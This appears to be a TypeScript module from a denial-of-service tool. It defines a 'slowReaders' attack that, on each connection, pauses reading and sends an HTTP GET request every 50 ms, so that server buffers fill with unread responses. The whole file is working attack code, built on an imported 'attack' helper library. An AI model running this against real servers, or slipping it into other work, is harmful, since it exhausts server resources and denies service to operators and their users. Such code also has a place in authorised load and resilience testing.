import { type AttackOptions, onEachConnection, repeat, write } from "./attack.ts";

/** Sends a request every 50 ms and reads no responses. */
export function slowReaders(options: AttackOptions): Promise<void> {
  const { path = "/" } = options;
  return onEachConnection(options, (socket) => {
    socket.pause();
    return repeat(socket, 50, () => write(socket, `GET ${path} HTTP/1.1\r\nHost: x\r\n\r\n`));
  });
}
